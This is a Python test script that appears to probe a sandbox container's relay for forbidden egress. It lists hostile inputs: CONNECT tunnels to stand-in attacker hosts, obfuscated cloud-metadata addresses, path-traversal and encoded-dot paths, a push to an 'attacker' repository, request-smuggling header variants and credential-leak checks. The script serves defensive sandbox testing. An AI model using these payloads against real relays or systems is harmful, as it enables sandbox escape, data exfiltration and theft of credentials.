"""Runs inside a session's container: every way out by the relay that policy does not grant.

As `probe.py`; its argument has `checks`, `sockets` (paths), `port` of loopback (0: none), `named`
and `host`, the one that tunnels may lead to, `hellos` (hexadecimal TLS records for other names),
`worker` and `other`, two workers' ids. What got through is printed.
"""

import json
import socket
import sys
from collections.abc import Callable, Iterator
from typing import Any

SECONDS = 15.0
ALERT = bytes.fromhex("15030300020231")
MINE = "sk-the-attackers-own"
WAYS_OUT = (
    "evil.example.org:443", "files.example.org.evil.org:443", "127.0.0.1:5432", "[::1]:443",
    "169.254.169.254:80", "169.254.169.254:443", "[fd00:ec2::254]:80", "2852039166:80",
    "0xa9fea9fe:80", "0251.0376.0251.0376:80", "127.1:443", "10.0.0.1:443", "localhost:443",
    "metadata.google.internal:80", "host.docker.internal:443", "control-plane:8010",
    "postgres:5432", "8.8.8.8:53", "dns.google:443", "cloudflare-dns.com:443", "github.com:22",
    "user@evil.example.org:443", "evil.example.org.:443", "EVIL.example.org:443",
    "[::ffff:169.254.169.254]:80", "evil.example.org:0", "evil.example.org",
)  # fmt: skip
ABSOLUTE = (
    "http://evil.example.org/", "http://169.254.169.254/latest/meta-data/", "http://127.0.0.1/",
    "http://[::1]:8010/internal/v1/managers", "https://evil.example.org/", "ftp://evil.org/x",
    "http://metadata.google.internal/computeMetadata/v1/", "//evil.example.org/", "*",
    "evil.example.org:80",
)  # fmt: skip
NOT_READ = (
    ("PUT", "/npm/berth-greeting"), ("POST", "/npm/-/v1/login"), ("PUT", "/npm/-/user/x"),
    ("DELETE", "/npm/berth-greeting/-rev/1"), ("POST", "/pypi/legacy/"), ("POST", "/pypi/simple/"),
    ("GET", "/pypi/pypi/berth-greeting/json"), ("GET", "/npm/-/whoami"),
    ("GET", "/npm/-/npm/v1/tokens"),
    ("GET", "/pypi/-/files/9/secret"), ("GET", "/pypi/simple/../../etc"),
    ("GET", "/npm/%2e%2e/%2e%2e/x"), ("POST", "/npm/-/npm/v1/security/audits"),
)  # fmt: skip
REPOSITORIES = (
    ("GET", "/git/git.example.org/other/secrets.git/info/refs?service=git-upload-pack"),
    ("GET", "/git/github.com/team/docs.git/info/refs?service=git-upload-pack"),
    ("POST", "/git/github.com/attacker/inbox.git/git-receive-pack"),
    ("GET", "/git/git.example.org/team/docs.git/../../../api/v4/user"),
    ("GET", "/git/git.example.org/team/docs.git/%2e%2e/secrets.git/info/refs"),
    ("GET", "/git/git.example.org/api/v4/projects"),
    ("PUT", "/git/git.example.org/team/docs.git/x"),
    ("GET", "/git/user:key@git.example.org/team/docs.git/info/refs"),
)  # fmt: skip
PROVIDERS = (
    ("GET", "/models/v1/files"), ("POST", "/models/v1/files"),
    ("POST", "/models/v1/messages/batches"),
    ("GET", "/models/v1/organizations/me"), ("POST", "/models/v1/uploads"),
    ("POST", "/models/v1/fine_tuning/jobs"), ("DELETE", "/models/v1/files/file-1"),
    ("GET", "/models/v1/api_keys"), ("POST", "/models/v1/messages/../files"),
    ("POST", "/models/v1/assistants"), ("POST", "/models/v1/containers"),
)  # fmt: skip
INTERNAL = (
    "/internal/v1/managers", "/internal/v1/workers", "/api/v1/runs", "/api/v1/sessions", "/readyz",
    "/metrics", "/models/../workers", "/models/v1/../../callbacks", "/models/v1/%2e%2e/%2e%2e/x",
    "/models//v1/messages", "/models/v1/..%2f..%2fcallbacks", "/tools/../models/v1",
    "/tools/mcp/../x",
    "/tools/callbacks", "/objects/x", "/executor/v1/status", "/workers", "/routes",
    "/relay/streams",
    "/human-loop", "/models", "/models\\v1", "/Models/v1/messages",
)  # fmt: skip

given: dict[str, Any] = {}


def opened() -> Iterator[socket.socket]:
    """One connection by each way that there is."""
    for path in given["sockets"]:
        asking = socket.socket(socket.AF_UNIX)
        asking.settimeout(SECONDS)
        asking.connect(path)
        yield asking
    if given["port"]:
        yield socket.create_connection(("127.0.0.1", given["port"]), SECONDS)


def received(asking: socket.socket, *, until: bytes = b"") -> bytes:
    found = b""
    try:
        while (not until or until not in found) and (part := asking.recv(65536)):
            found += part
    except OSError:
        return found
    return found


def answers(request: bytes, *, until: bytes = b"") -> Iterator[bytes]:
    for asking in opened():
        with asking:
            asking.sendall(request)
            yield received(asking, until=until)


def through(answer: bytes) -> bool:
    return answer.startswith(b"HTTP/1.") and answer[9:10] == b"2"


def request(method: str, target: str, *headers: str) -> bytes:
    lines = [f"{method} {target} HTTP/1.1", "Host: 127.0.0.1", "Connection: close", *headers]
    body = "{}" if method in {"POST", "PUT"} else ""
    lines += [f"Content-Length: {len(body)}"] if body else []
    return ("\r\n".join(lines) + f"\r\n\r\n{body}").encode()


def passing(asked: list[tuple[str, str]] | tuple[tuple[str, str], ...]) -> Iterator[str]:
    for method, target in asked:
        if any(through(answer) for answer in answers(request(method, target))):
            yield f"{method} {target}"


# --- tunnels (K02, K04) -----------------------------------------------------------------------


def hosts() -> Iterator[str]:
    for target in WAYS_OUT:
        head = f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode()
        if any(through(answer) for answer in answers(head, until=b"\r\n\r\n")):
            yield target


def heads() -> Iterator[str]:
    """For the host that is named, but so that two readers would not agree about it."""
    named = given["named"]
    for head in (
        f"CONNECT {named} HTTP/1.1\r\nHost: evil.example.org\r\n\r\n",
        f"CONNECT {named} HTTP/1.1\r\nHost: {named}\r\nHost: evil.example.org:443\r\n\r\n",
        f"CONNECT {named}  HTTP/1.1\r\n\r\n",
        f"CONNECT {named} evil.example.org:443 HTTP/1.1\r\n\r\n",
        f"CONNECT {named} HTTP/1.1\r\nContent-Length: 4\r\n\r\nevil",
        f"CONNECT {named} HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        f"GET /models/x HTTP/1.1\r\nHost: x\r\n\r\nCONNECT {named} HTTP/1.1\r\n\r\n",
    ):
        if any(b" 200 " in answer for answer in answers(head.encode(), until=b" 200 ")):
            yield repr(head)


def hellos() -> Iterator[str]:
    """In a tunnel to the host that is named: first bytes for somebody else, or for nobody."""
    head = f"CONNECT {given['named']} HTTP/1.1\r\n\r\n".encode()
    for name, first in given["hellos"].items():
        for asking in opened():
            with asking:
                asking.sendall(head)
                if not through(received(asking, until=b"\r\n\r\n")):
                    yield "the host that is named is not there"
                asking.sendall(bytes.fromhex(first))
                asking.shutdown(socket.SHUT_WR)
                if received(asking) not in {b"", ALERT}:
                    yield name


def absolute() -> Iterator[str]:
    for host in ("127.0.0.1", "evil.example.org"):
        for target in ABSOLUTE:
            head = f"GET {target} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"
            if any(through(answer) for answer in answers(head.encode())):
                yield f"{target} as of {host}"


# --- named upstreams (K03, K11, I10, I12) -----------------------------------------------------


def granted() -> Iterator[str]:
    """The other way round: what policy grants is there, so that the rest is refused by it alone."""
    for method, target in given["granted"]:
        if not all(through(answer) for answer in answers(request(method, target))):
            yield f"{method} {target} is refused"


def indexes() -> Iterator[str]:
    yield from passing(NOT_READ)


def repositories() -> Iterator[str]:
    yield from passing(REPOSITORIES)


def providers() -> Iterator[str]:
    yield from passing(PROVIDERS)


def internal() -> Iterator[str]:
    """The control plane's own, the relay's and the executor's,
    by every upstream that leads near."""
    ids = [f"/internal/v1/workers/{given[one]}/callbacks" for one in ("worker", "other")]
    near = [f"/models/v1/../../../{given['other']}/models/v1/messages"]
    yield from passing([(method, path) for path in (*INTERNAL, *ids, *near)
                        for method in ("GET", "POST")])  # fmt: skip


def keys() -> Iterator[str]:
    """Whoever answers tells what it was sent: nothing of ours may have gone along."""
    method, target = given["granted"][0]
    headers = [f"{name}: {MINE}" for name in ("Authorization", "X-Api-Key", "Api-Key", "Cookie",
               "Proxy-Authorization", "X-Goog-Api-Key", "X-Berth-Identity")]  # fmt: skip
    for answer in answers(request(method, target, *headers)):
        if MINE.encode() in answer:
            yield f"{target} had our own key"


def smuggled() -> Iterator[str]:
    """A second request in the first one's body, for whoever counts it differently."""
    method, target = given["granted"][0]
    inner = "POST /smuggled HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n"
    for lengths in (
        f"Content-Length: {len(inner)}\r\nTransfer-Encoding: chunked",
        f"Content-Length: 0\r\nContent-Length: {len(inner)}",
        "Transfer-Encoding: identity, chunked",
        "Transfer-Encoding : chunked",
        "Content-Length: +5",
    ):
        head = f"{method} {target} HTTP/1.1\r\nHost: x\r\n{lengths}\r\nConnection: close\r\n\r\n"
        if any(through(answer) for answer in answers(f"{head}0\r\n\r\n{inner}".encode())):
            yield lengths


# --- the executor's own socket (I11, I12), for root in the container --------------------------


def callbacks() -> Iterator[str]:
    """The relay adds this worker's token: to nothing of another's, and to nothing of managers."""
    own, other = (f"/internal/v1/workers/{given[one]}" for one in ("worker", "other"))
    names = ("callbacks", "denials", "downloads", "uploads", "restore", "transcript",
             "side-snapshot", "exec", "tools/mcp", "models/v1/messages")  # fmt: skip
    calls = [f"{other}/{name}" for name in names]
    calls += [f"{own}/../{given['other']}/callbacks", f"{own}/%2e%2e/{given['other']}/uploads",
              f"{own}//callbacks", f"/internal/v1/managers/{given['other']}/claim",
              f"/internal/v1/managers/{given['other']}/heartbeat", "/internal/v1/managers/register",
              "/internal/v1/keys/introspect", "/internal/v1/tickets", "/internal/v1/tickets/check",
              "/api/v1/runs", "/readyz", "/metrics", "/objects/x", "/workers", "/routes",
              "/objects/%2e%2e/berth/x?X-Amz-Signature=0"]  # fmt: skip
    yield from passing([(method, call) for call in calls for method in ("GET", "POST", "PUT")])


CHECKS: list[Callable[[], Iterator[str]]] = [
    hosts, heads, hellos, absolute, granted, indexes, repositories, providers, internal, keys,
    smuggled, callbacks,
]  # fmt: skip


def main() -> None:
    given.update(json.loads(sys.argv[1]))
    chosen = [check for check in CHECKS if check.__name__ in given["checks"]]
    json.dump({check.__name__: list(check())[:10] for check in chosen}, sys.stdout)


if __name__ == "__main__":
    main()
